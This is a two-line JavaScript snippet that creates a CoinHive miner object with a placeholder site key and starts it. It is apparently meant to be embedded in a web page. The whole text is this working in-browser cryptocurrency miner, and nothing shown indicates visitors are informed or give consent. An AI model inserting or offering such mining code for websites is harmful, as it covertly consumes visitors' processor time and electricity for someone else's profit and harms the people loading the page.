const miner = new CoinHive.Anonymous("site-key");
miner.start();
